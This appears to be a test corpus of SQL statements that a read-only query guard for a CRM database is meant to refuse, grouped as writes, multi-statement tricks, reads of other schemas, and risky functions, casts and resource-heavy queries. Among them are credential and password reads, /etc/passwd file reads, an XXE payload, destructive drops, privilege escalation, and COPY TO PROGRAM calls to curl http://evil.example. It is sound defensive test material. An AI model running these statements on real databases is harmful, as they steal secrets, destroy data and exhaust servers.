-- Statements that no question needs, one each; a blank line ends it. The guard alone refuses every one, and so it does
-- with each of their disguises (test/disguises.ts). The database alone gives away nothing and stays as it is.

-- Writing.

DELETE FROM deals

UPDATE deals SET title = 'x'

INSERT INTO deals (title) VALUES ('x')

MERGE INTO deals d USING leads l ON d.id = l.id WHEN MATCHED THEN DELETE

TRUNCATE crm.deals

DROP VIEW deals

DROP SCHEMA crm CASCADE

CREATE TABLE stolen AS SELECT * FROM deals

CREATE TEMP TABLE stolen AS SELECT * FROM deals

SELECT * INTO stolen FROM deals

SELECT * INTO TEMP stolen FROM deals

CREATE MATERIALIZED VIEW stolen AS SELECT 1

CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'

ALTER ROLE CURRENT_USER SUPERUSER

ALTER TABLE crm.deals ADD COLUMN x int

GRANT ALL ON crm.deals TO PUBLIC

WITH gone AS (DELETE FROM deals RETURNING *) SELECT * FROM gone

WITH made AS (INSERT INTO deals (title) VALUES ('x') RETURNING id) SELECT count(*) FROM made

WITH a AS (SELECT 1), b AS (UPDATE deals SET title = 'x' RETURNING 1) SELECT * FROM a, b

COPY deals TO '/tmp/stolen'

COPY deals TO PROGRAM 'curl http://evil.example'

COPY deals FROM PROGRAM 'id'

COPY (SELECT 1) TO STDOUT

SELECT id FROM deals FOR UPDATE

SELECT id FROM deals FOR KEY SHARE SKIP LOCKED

LOCK TABLE crm.deals IN ACCESS EXCLUSIVE MODE

SELECT lo_from_bytea(0, 'x')

SELECT lo_creat(-1)

SELECT lo_import('/etc/passwd')

SELECT lo_put(1, 0, 'x')

SELECT pg_logical_emit_message(false, 'x', 'y')

SELECT txid_current()

SELECT nextval('b24kit.sync_runs_id_seq')

SELECT setval('b24kit.sync_runs_id_seq', 1)

-- Several statements, and other statements than SELECT.

SELECT 1; DELETE FROM crm.deals

SELECT 1; COMMIT; DROP SCHEMA crm CASCADE

COMMIT; DELETE FROM crm.deals

SELECT 1;; SELECT 2

ROLLBACK; SET ROLE b24kit; SELECT 1

BEGIN

SET ROLE b24kit

SET SESSION AUTHORIZATION b24kit

SET statement_timeout = 0

SET LOCAL search_path = b24kit

RESET ALL

SHOW ALL

DISCARD ALL

EXPLAIN ANALYZE SELECT * FROM deals

DO $$ BEGIN PERFORM 1; END $$

CALL f()

PREPARE p AS SELECT 1

EXECUTE p

DECLARE c CURSOR FOR SELECT 1

FETCH ALL FROM c

LISTEN everything

NOTIFY everything, 'x'

VACUUM

ANALYZE crm.deals

CHECKPOINT

REFRESH MATERIALIZED VIEW x

COMMENT ON TABLE crm.deals IS 'x'

SECURITY LABEL ON TABLE crm.deals IS 'x'

LOAD '/tmp/evil.so'

CREATE EXTENSION dblink

TABLE crm.deals

-- Reading elsewhere.

SELECT * FROM crm.deals

SELECT comments FROM crm.deals

SELECT * FROM crm.multifields

SELECT credential FROM b24kit.portal_portals

SELECT password FROM b24kit.charts_roles

SELECT * FROM b24kit.auth_keys

SELECT * FROM crm_2_chart.deals

SELECT * FROM public.secrets

SELECT * FROM pg_catalog.pg_authid

SELECT rolname, rolpassword FROM pg_authid

SELECT * FROM pg_shadow

SELECT usename, passwd FROM pg_catalog.pg_shadow

SELECT * FROM pg_user

SELECT * FROM pg_class

SELECT prosrc FROM pg_proc

SELECT query FROM pg_stat_activity

SELECT * FROM pg_settings

SELECT * FROM pg_stats

SELECT * FROM pg_largeobject

SELECT * FROM pg_hba_file_rules

SELECT * FROM information_schema.tables

SELECT table_name FROM information_schema.columns

SELECT id FROM deals UNION SELECT oid::bigint FROM pg_class

SELECT id FROM deals WHERE id IN (SELECT oid::bigint FROM pg_class)

SELECT (SELECT rolpassword FROM pg_authid LIMIT 1) FROM deals

SELECT d.id FROM deals d JOIN pg_class c ON c.oid = d.id

SELECT d.id FROM deals d, LATERAL (SELECT * FROM crm.deals) x

SELECT id FROM deals ORDER BY (SELECT count(*) FROM crm.contacts)

SELECT count(*) FILTER (WHERE EXISTS (SELECT FROM b24kit.portal_portals)) FROM deals

WITH pg_class AS (SELECT 1 AS one) SELECT * FROM pg_catalog.pg_class

SELECT ctid FROM deals

SELECT tableoid, xmin FROM deals

SELECT d FROM deals d

SELECT deals FROM deals

SELECT row_to_json(d) FROM deals d

SELECT d::text FROM deals d

SELECT (d).title FROM deals d

SELECT count(d.*) FROM deals d

SELECT ROW(d.*) FROM deals d

SELECT * FROM b24kit.crm_chart.deals

SELECT phone FROM contacts

SELECT email FROM users

-- Functions that reach further than their arguments.

SELECT set_config('role', 'b24kit', false)

SELECT set_config('statement_timeout', '0', false)

WITH s AS MATERIALIZED (SELECT set_config('role', 'none', true)) SELECT query_to_xml('SELECT * FROM crm.deals', true, true, '') FROM s

SELECT current_setting('data_directory')

SELECT query_to_xml('SELECT * FROM b24kit.portal_portals', true, true, '')

SELECT database_to_xml(true, true, '')

SELECT schema_to_xml('crm', true, true, '')

SELECT table_to_xml('crm.deals', true, true, '')

SELECT cursor_to_xml('c', 1, true, true, '')

SELECT * FROM ts_stat('SELECT comments FROM crm.deals')

SELECT ts_rewrite('a'::tsquery, 'SELECT 1')

SELECT pg_read_file('/etc/passwd')

SELECT pg_read_binary_file('/etc/passwd')

SELECT * FROM pg_ls_dir('/')

SELECT pg_stat_file('/etc/passwd')

SELECT pg_sleep(60)

SELECT pg_sleep_for('1 minute')

SELECT id FROM deals WHERE pg_sleep(60) IS NULL

SELECT pg_terminate_backend(pid) FROM pg_stat_activity

SELECT pg_cancel_backend(1)

SELECT pg_reload_conf()

SELECT pg_rotate_logfile()

SELECT pg_switch_wal()

SELECT pg_notify('everything', 'x')

SELECT pg_advisory_lock(1)

SELECT pg_try_advisory_lock(24001)

SELECT pg_advisory_xact_lock(1) FROM deals

SELECT pg_export_snapshot()

SELECT pg_backend_pid()

SELECT version()

SELECT current_user

SELECT session_user, current_database()

SELECT current_role, current_catalog, current_schema

SELECT inet_server_addr(), inet_server_port()

SELECT pg_get_viewdef('deals'::regclass)

SELECT pg_get_functiondef(1)

SELECT obj_description(1)

SELECT has_table_privilege('crm.deals', 'SELECT')

SELECT to_regclass('crm.deals')

SELECT pg_relation_size('crm.deals')

SELECT pg_database_size('postgres')

SELECT pg_stat_reset()

SELECT pg_stat_get_activity(NULL)

SELECT dblink('dbname=b24kit', 'DELETE FROM crm.deals')

SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(a int)

SELECT xpath('/a', '<a/>')

SELECT xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')

SELECT xmlelement(name a, title) FROM deals

SELECT * FROM xmltable('/a' PASSING '<a/>' COLUMNS b text)

SELECT * FROM json_table('[1]', '$[*]' COLUMNS (a int PATH '$'))

SELECT gen_random_uuid(), random()

SELECT crm_chart.now()

SELECT public.count(id) FROM deals

SELECT concat(VARIADIC ARRAY['a', 'b'])

SELECT deals.now FROM deals

-- Types and operators that look around or reach functions.

SELECT 'crm.deals'::regclass

SELECT 'pg_sleep'::regproc

SELECT CAST('b24kit' AS regrole)

SELECT 1::oid::regclass::text

SELECT '<a/>'::xml

SELECT title::json FROM deals

SELECT '{}'::jsonb

SELECT 'x'::pg_catalog.regnamespace

SELECT NULL::deals

SELECT '(1)'::pg_class

SELECT 'a'::bytea

SELECT 'x'::char(10000000)

SELECT B'1'::bit(8000000)

SELECT ARRAY['crm.deals']::regclass[]

SELECT 1 OPERATOR(pg_catalog.+) 1, 2 OPERATOR(public.+) 3

SELECT title ~ '(a+)+$' FROM deals

SELECT title SIMILAR TO '(a|b)*' FROM deals

SELECT 2 ^ 1000000

SELECT !!'a'

SELECT title @@ 'a' FROM deals

SELECT title COLLATE "C" FROM deals

-- More time and memory than an answer is worth.

SELECT repeat('x', 1000000000)

SELECT lpad('x', 1000000000)

SELECT string_agg(title, '') FROM deals

SELECT array_agg(d.id) FROM deals d, deals e, deals f

SELECT array_fill(0, ARRAY[100000000])

SELECT json_agg(title) FROM deals

SELECT replace(replace(replace('aaaaaaaaaa', 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa')

SELECT regexp_replace(title, '(.*)*', '', 'g') FROM deals

SELECT format('%1000000000s', 1)

WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r

WITH RECURSIVE r(t) AS (SELECT 'x' UNION ALL SELECT t || t FROM r) SELECT max(length(t)) FROM r

SELECT generate_series(1, 1000000000)

SELECT id, generate_series(1, 1000000) FROM deals

SELECT count(*) FROM generate_series(1, 100000) a, generate_series(1, 100000) b, generate_series(1, 100000) c

SELECT count(*) FROM deals a, deals b, deals c, deals d, deals e, deals f, deals g, deals h, deals i

SELECT a||a||a||a||a||a||a||a||a||a FROM (SELECT b||b||b||b||b||b||b||b||b||b AS a FROM (SELECT title AS b FROM deals) x) y

SELECT count(*) FROM deals GROUP BY CUBE (id, title, stage, source, type, created, modified, closed, company, contact)

SELECT * FROM deals TABLESAMPLE SYSTEM (100)

SELECT id FROM deals ORDER BY id FETCH FIRST 1 ROWS WITH TIES

SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS t(a, b)

DELETE FROM deals WHERE CURRENT OF c

SELECT $1

SELECT * FROM deals NATURAL JOIN leads
